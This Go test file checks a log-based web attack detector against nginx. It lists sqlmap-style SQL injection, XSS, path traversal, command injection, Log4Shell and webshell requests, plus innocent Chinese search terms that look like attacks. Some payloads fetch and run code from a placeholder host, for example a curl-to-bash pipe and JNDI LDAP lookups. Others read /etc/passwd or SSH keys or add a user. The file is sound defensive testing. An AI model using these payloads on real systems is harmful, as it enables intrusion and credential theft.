package access

import (
	"net/url"
	"strings"
	"testing"
)

// These were written after prefilter, classes and rules had been settled, and
// nothing was changed for them: they say how those fare with what was not at
// hand. The attacks have the shapes that sqlmap (with its tampers), scanners of
// known holes and people make.

// laterValues are values of a parameter, as typed.
var laterValues = map[string][]string{
	"sql": {
		"7 AND 5163=5163", "7' AND 5163=5163 AND 'kQzt'='kQzt", "7 AND (SELECT 3120 FROM(SELECT COUNT(*),CONCAT(0x7171787a71,(SELECT (ELT(3120=3120,1))),0x716b787171,FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)a)",
		"7 AND 2204=CAST((CHR(113)||CHR(113))||(SELECT (CASE WHEN (2204=2204) THEN 1 ELSE 0 END))::text||(CHR(113)) AS NUMERIC)", "7;SELECT PG_SLEEP(5)--", "7 AND 8110=(SELECT 8110 FROM PG_SLEEP(5))",
		"7 RLIKE (SELECT (CASE WHEN (4421=4421) THEN 7 ELSE 0x28 END))", "7 PROCEDURE ANALYSE(EXTRACTVALUE(5840,CONCAT(0x5c,0x71)),1)", "7 UNION ALL SELECT NULL,CONCAT(0x71,0x72,0x71),NULL-- -",
		"7/**/AND/**/1=1", "7%0aUNION%0aSELECT%0a1,2", "7 /*!50000UNION*/ /*!50000SELECT*/ 1,2,user()", "7 uNiOn aLl sElEcT @@version,2", "7' oR '7'='7' #", "7 AND 7 BETWEEN 7 AND 7",
		"7\xbf' OR 1=1-- ", "7') OR ('x'='x", "7 OR 1 GROUP BY CONCAT_WS(0x3a,VERSION(),FLOOR(RAND(0)*2)) HAVING MIN(0)", "7 AND IF(SUBSTR(USER(),1,1)='r',SLEEP(3),0)", "7 limit 1 into outfile '/var/www/x.php'",
	},
	"xss": {
		"<ScRipT SrC=//203.0.113.5/x.js></sCriPt>", "\"onmouseover=confirm(1)//", "<math><mi//xlink:href=\"data:x,<script>alert(4)</script>\">", "<video><source onerror=\"alert(1)\">", "<object data=\"javascript:alert(1)\">",
		"';alert(String.fromCharCode(88,83,83))//", "<style>@import'javascript:alert(1)';</style>", "<form><button formaction=javascript:alert(1)>x", "<marquee onstart=alert(1)>", "<a href=jAvAsCrIpT&colon;alert(1)>x</a>",
	},
	"traversal": {
		"..././..././..././etc/passwd", "/var/www/../../etc/passwd", "..%c0%af..%c0%afetc/passwd", "file:///etc/passwd", "....\\\\....\\\\windows\\\\system32\\\\drivers\\\\etc\\\\hosts", "/proc/self/cmdline", "../../../../../../root/.ssh/id_rsa", "/etc/nginx/nginx.conf",
	},
	"command": {
		"x;${IFS}cat${IFS}/etc/passwd", "x%0acat%20/etc/passwd", "x|ping -c 3 203.0.113.5", "$(curl -s http://203.0.113.5/a|bash)", "x & net user hack P@ss /add", "{{7*7}}", "${7*7}", "#{T(java.lang.Runtime).getRuntime().exec('id')}",
		"%{(#a=@java.lang.Runtime@getRuntime().exec('id'))}", "${${lower:j}ndi:${lower:l}dap://203.0.113.5/x}", "${jndi:dns://x.example.org}", "x;perl -e 'print 1'", "a';python3 -c 'import os;os.system(\"id\")';'",
	},
}

// laterTargets are attacks that are in the path or the client's name.
var laterTargets = []labelled{
	{"traversal", "GET", "/static/..;/manager/html", browser},
	{"traversal", "GET", "/icons/%%32%65%%32%65/%%32%65%%32%65/etc/passwd", browser},
	{"traversal", "GET", "/.svn/wc.db", browser},
	{"traversal", "GET", "/backup/www.sql.gz", browser},
	{"traversal", "GET", "/WEB-INF/classes/application.yml", browser},
	{"command", "GET", "/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bx%7Di", browser},
	{"command", "GET", "/index.php?lang=../../../../../usr/local/lib/php/pearcmd&+config-create+/&/%3C?=phpinfo()?%3E+/tmp/x.php", browser},
	{"command", "GET", "/solr/admin/cores?action=$%7Bjndi:ldap://203.0.113.5/x%7D", browser},
	{"command", "GET", "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id)", browser},
	{"php", "GET", "/?-d+allow_url_include%3don+-d+auto_prepend_file%3dphp://input", browser},
	{"php", "GET", "/index.php?page=expect://id", browser},
	{"webshell", "POST", "/upload/20261129/1.jsp", browser},
	{"webshell", "GET", "/wp-content/uploads/shell.php?cmd=ls", browser},
	{"webshell", "POST", "/images/logo.asp;.jpg", browser},
	{"scanner", "GET", "/?m=1", "Mozilla/5.0 (compatible; Acunetix-Product; WVS/15)"},
	{"scanner", "GET", "/?m=2", "dirbuster/1.0-RC1"},
	{"scanner", "GET", "/?m=3", "${jndi:ldap://203.0.113.5/agent}"},
	{"scanner", "GET", "/?m=4", "Fuzz Faster U Fool v2.1.0 ffuf"},
}

// laterWords are what people look for that is innocent and odd.
var laterWords = []string{
	"《关于<智慧园区>项目的补充公告》", "价格=单价*数量", "张工's 报价单", "select 优选供应商", "联合体(union)投标 select 条款", "资质 and/or 业绩", "2026年第3批--第2次", "A|B|C 三个标段", "桥梁;隧道;涵洞", "C:\\招标\\附件1.docx",
	"../附件 是什么意思", "root 岗位招聘", "sleep(睡眠)监测仪", "etc 门架系统 采购", "#1机组 & #2机组", "$100万以上", "`反引号`怎么打", "'单引号'", "insert into 术语翻译", "如何 drop table", "1=1 是什么", "x'轴 y'轴", "50%+1 表决", "<10万元", ">=500㎡",
	"（一标段）OR（二标段）", "何谓\"不见面开标\"?", "order by 单价 排序", "exec 高管课程", "javascript: 培训班", "and 1 号楼", "having 一个资质", "waitfor 延期", "benchmark 测试服务", "load_file 是什么", "concat 函数 教程", "投标文件(正本)/(副本)", "1/2\"钢管", "5' 6\" 门", "R&D 中心", "AT&T 设备", "a<b>c",
	"{{项目名称}}", "${金额}", "#{编号}", "%E4%B8%AD 乱码", "😀 公告", "……——……", "1;2;3", "(1)(2)(3)", "N/A", "null", "undefined", "NaN", "true or false", "C# 开发", "F# 语言", "C:/Windows/win.ini 缺失", "http://www.example.org/notice", "ftp 上传失败", "onload 事件", "alert 警报系统", "system('监控')", "php 开发工程师", "eval 评价", "base64 图片",
}

// laterOrdinary are other requests that are not attacks.
var laterOrdinary = []string{
	"/bid/2026/11/附件(最终版)—盖章.pdf", "/notice;v=2", "/api/list?sort=-date,+price", "/api/q?where=%7B%22name%22%3A%7B%22%24regex%22%3A%22桥%22%7D%7D", "/x?redirect=/login?next=/home", "/x?url=https://www.example.org/a?b=1%26c=2", "/file?name=..hidden..txt", "/v1/@me/profile", "/~li/index.html",
	"/feed?tags=a|b|c", "/t?d=2026-11-29T10:00:00Z/P1D", "/matrix;a=1;b=2/x", "/a?arr[0]=1&arr[1]=2", "/a?x[y][z]=1", "/geo?p=POINT(116.4 39.9)", "/calc?f=(a+b)*c", "/q?regex=^abc$", "/img/logo@2x.png", "/wiki/C++", "/wiki/SQL_injection", "/wiki/Cross-site_scripting", "/news/union-select-committee", "/help/how-to-drop-a-table-leg", "/download/系统(v1.2)&补丁.zip",
}

func later() (attacks, ordinary []labelled) {
	for _, class := range []string{"sql", "xss", "traversal", "command"} {
		for n, v := range laterValues[class] {
			enc := url.QueryEscape(v)
			if strings.Contains(v, "%0a") || strings.Contains(v, "%c0") {
				enc = strings.ReplaceAll(v, " ", "+")
			}
			attacks = append(attacks, labelled{class, "GET", "/project/detail?pid=" + enc, browser})
			if n%2 == 0 {
				attacks = append(attacks, labelled{class, "GET", "/notice/list?type=2&title=" + strings.ReplaceAll(enc, "+", "%20") + "&page=1", browser})
			}
		}
	}
	attacks = append(attacks, laterTargets...)
	for _, w := range laterWords {
		ordinary = append(ordinary, labelled{"", "GET", "/search?q=" + url.QueryEscape(w), browser})
	}
	for _, target := range laterOrdinary {
		ordinary = append(ordinary, labelled{"", "GET", strings.ReplaceAll(target, " ", "%20"), browser})
	}
	return attacks, ordinary
}

// TestLaterSamples holds those against what a real nginx logs of them. The
// figures stand in docs/log-attacks.md; the test holds that they do not become
// worse.
func TestLaterSamples(t *testing.T) {
	t.Parallel()
	bad, good := later()
	sent := append(bad, good...)
	n := startNginx(t)
	n.ask(t, sent)
	found := seenIn(t, n.lines(t, len(sent)))
	by := map[string][2]int{} // sent, found
	for _, r := range sent {
		seen := found[key(r.method, r.target)]
		hit := len(seen) > 0 && seen[0] != ""
		c := by[r.class]
		c[0]++
		if hit {
			c[1]++
		}
		by[r.class] = c
		if hit != (r.class != "") {
			what := "missed " + r.class
			if hit {
				what = "false alarm, " + seen[0]
			}
			t.Logf("%s: %s  %s", what, r.target, r.agent[:min(len(r.agent), 20)])
		}
	}
	hits, all := 0, 0
	for class, c := range by {
		if class != "" {
			all, hits = all+c[0], hits+c[1]
		}
	}
	t.Logf("sent and found: %v", by)
	if all != 95 || by[""][0] != 90 {
		t.Errorf("%d attacks and %d ordinary requests; docs/log-attacks.md says 95 and 90", all, by[""][0])
	}
	if hits < 90 || by[""][1] > 9 {
		t.Errorf("found %d attacks with %d false alarms; it was 90 with 9", hits, by[""][1])
	}
}
